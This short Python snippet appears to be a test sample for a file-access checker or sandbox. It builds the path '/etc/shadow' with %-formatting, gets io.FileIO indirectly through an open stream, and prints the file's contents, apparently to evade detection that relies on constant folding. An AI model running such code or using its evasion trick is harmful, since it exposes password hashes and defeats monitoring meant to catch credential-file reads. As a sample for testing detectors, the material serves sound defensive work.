"""Host secret built with %-formatting and handed to a stream type found at run time."""

with open(__file__, "rb") as me:
    Stream = type(me.raw)          # io.FileIO, reached through an open stream

path = "/%s/%s" % ("etc", "shadow")   # %-formatting is not among the documented folds
print(Stream(path).read().decode(errors="replace"))
